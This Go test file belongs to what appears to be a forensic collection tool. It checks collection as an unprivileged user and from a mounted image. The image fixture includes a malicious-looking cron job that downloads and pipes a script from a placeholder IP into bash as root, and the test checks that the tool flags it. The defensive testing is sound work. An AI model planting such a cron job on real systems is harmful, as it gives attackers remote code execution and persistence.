package main

import (
	"archive/tar"
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/klauspost/compress/zstd"

	"github.com/hozen-dfir/hozen/artifact"
	"github.com/hozen-dfir/hozen/manifest"
)

// bundleEntries reads every regular entry of a plain .tar.zst bundle.
func bundleEntries(t *testing.T, path string) map[string][]byte {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := zstd.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	out := map[string][]byte{}
	tr := tar.NewReader(zr)
	for {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		out[h.Name] = b
	}
}

func bundleHeader(t *testing.T, files map[string][]byte) manifest.Header {
	t.Helper()
	var h manifest.Header
	if err := json.Unmarshal(files[manifest.HeaderPath], &h); err != nil {
		t.Fatalf("bundle.json: %v", err)
	}
	return h
}

// buildHozen builds the binary into dir (for runs as another user).
func buildHozen(t *testing.T, dir string) string {
	t.Helper()
	bin := filepath.Join(dir, "hozen")
	build := exec.Command("go", "build", "-o", bin, ".")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	return bin
}

// TestCollectNotRootSaysSo runs collect as nobody: it warns before it
// collects and again in the summary that it is not root and what that
// costs, and the header records the privileges. Needs root (to become
// nobody).
func TestCollectNotRootSaysSo(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to run collect as nobody")
	}
	if testing.Short() {
		t.Skip("builds the hozen binary")
	}
	base, err := os.MkdirTemp("", "hozen-nobody-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(base)
	if err := os.Chmod(base, 0o755); err != nil {
		t.Fatal(err)
	}
	bin := buildHozen(t, base)
	out := filepath.Join(base, "out")
	os.Mkdir(out, 0o777)
	os.Chmod(out, 0o777)
	prof := filepath.Join(base, "p.yaml")
	os.WriteFile(prof, []byte("name: users\ndescription: users only\ncollectors: [users]\n"), 0o644)

	cmd := exec.Command(bin, "collect", "--profile", prof, "--out", out)
	cmd.Env = []string{"HOME=" + base, "USER=nobody", "PATH=/usr/bin:/bin"}
	cmd.Dir = base
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("collect as nobody: %v\n%s", err, stderr.String())
	}
	errText := stderr.String()
	first, _, _ := strings.Cut(errText, "\n")
	if !strings.HasPrefix(first, "hozen: warning: not running as root (uid 65534)") || !strings.Contains(first, "/etc/shadow") {
		t.Errorf("first line of stderr %q: want the not-root warning naming what it costs", first)
	}
	if !strings.Contains(errText, "hozen: warning: collected without root (uid 65534): not collected:") {
		t.Errorf("summary lacks the not-root line:\n%s", errText)
	}
	h := bundleHeader(t, bundleEntries(t, strings.TrimSpace(stdout.String())))
	p := h.Privileges
	if p == nil || p.Root || p.UID != 65534 || p.EUID != 65534 || len(p.Missing) == 0 {
		t.Fatalf("header privileges %+v: want uid/euid 65534, root false, what is missing", p)
	}
	if p.Capabilities != "0000000000000000" {
		t.Errorf("capabilities %q: want none for nobody", p.Capabilities)
	}
}

// TestCollectDeadBox collects a root file system at DIR (a fixture tree
// standing for a mounted image): the header says dead box and takes the
// image's identity, live collectors leave a skipped record each, and the
// persistence collector reads the image's files, not this machine's.
func TestCollectDeadBox(t *testing.T) {
	if testing.Short() {
		t.Skip("a whole collection")
	}
	base := t.TempDir()
	tree := filepath.Join(base, "image")
	files := map[string]string{
		"etc/hostname":          "imagehost\n",
		"etc/machine-id":        "0123456789abcdef0123456789abcdef\n",
		"etc/os-release":        "PRETTY_NAME=\"Image Linux 1\"\nID=image\n",
		"etc/passwd":            "root:x:0:0:root:/root:/bin/bash\n",
		"etc/cron.d/image-job":  "* * * * * root wget -qO- http://192.0.2.1/x | bash\n",
		"root/.ssh/known_hosts": "",
	}
	for n, b := range files {
		p := filepath.Join(tree, n)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(b), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	out := filepath.Join(base, "out")
	var stdout, stderr bytes.Buffer
	if code := run([]string{"collect", "--root", tree, "--out", out, "--case", "db"}, nil, &stdout, &stderr); code != 0 {
		t.Fatalf("collect --root: exit %d\n%s", code, stderr.String())
	}
	if !strings.Contains(stderr.String(), "hozen: warning: dead-box collection of "+tree+": live state not collected (network, processes, kernel, procmaps, system, firewall skipped)") {
		t.Errorf("stderr lacks the dead-box warning:\n%s", stderr.String())
	}
	bpath := strings.TrimSpace(stdout.String())
	if !strings.Contains(filepath.Base(bpath), "_imagehost_") {
		t.Errorf("bundle %s: want the image's hostname in its name", bpath)
	}
	fs := bundleEntries(t, bpath)
	h := bundleHeader(t, fs)
	if h.DeadBox == nil || string(h.DeadBox.Root) != tree || strings.Join(h.DeadBox.Skipped, ",") != "network,processes,kernel,procmaps,system,firewall" {
		t.Errorf("header dead_box %+v", h.DeadBox)
	}
	if h.Host.Hostname != "imagehost" || h.Host.MachineID != "0123456789abcdef0123456789abcdef" || h.Host.OSRelease != "Image Linux 1" ||
		h.Host.BootID != "" || h.Host.Kernel != "" || len(h.Host.Addresses) != 0 {
		t.Errorf("header host %+v: want the image's identity and nothing of this machine", h.Host)
	}
	for _, c := range []string{"network", "processes", "system"} {
		var rec *manifest.Record
		for n, b := range fs {
			if !strings.HasPrefix(n, manifest.RecordsDir) {
				continue
			}
			var r manifest.Record
			if json.Unmarshal(b, &r) == nil && string(r.Path) == "volatile/"+c+"/not-collected" {
				rec = &r
			}
		}
		if rec == nil || rec.Outcome != manifest.OutcomeSkipped || rec.Entry != manifest.EntryNone ||
			len(rec.Warnings) != 1 || !strings.HasPrefix(rec.Warnings[0], "not collected: dead-box collection of "+tree) {
			t.Errorf("%s: skipped record %+v", c, rec)
		}
	}
	if _, ok := fs[artifact.PathProcesses]; ok {
		t.Errorf("processes of this machine stored in a dead-box bundle")
	}
	var pd artifact.Persistence
	if err := json.Unmarshal(fs[artifact.PathPersistence], &pd); err != nil {
		t.Fatal(err)
	}
	if len(pd.Entries) != 1 || pd.Entries[0].Path != "/etc/cron.d/image-job" || len(pd.Entries[0].Flags) == 0 {
		t.Errorf("persistence entries %+v: want the image's one cron job, flagged", pd.Entries)
	}
	if _, ok := fs["files/etc/cron.d/image-job"]; !ok {
		t.Errorf("the cron file group did not read under --root")
	}
}
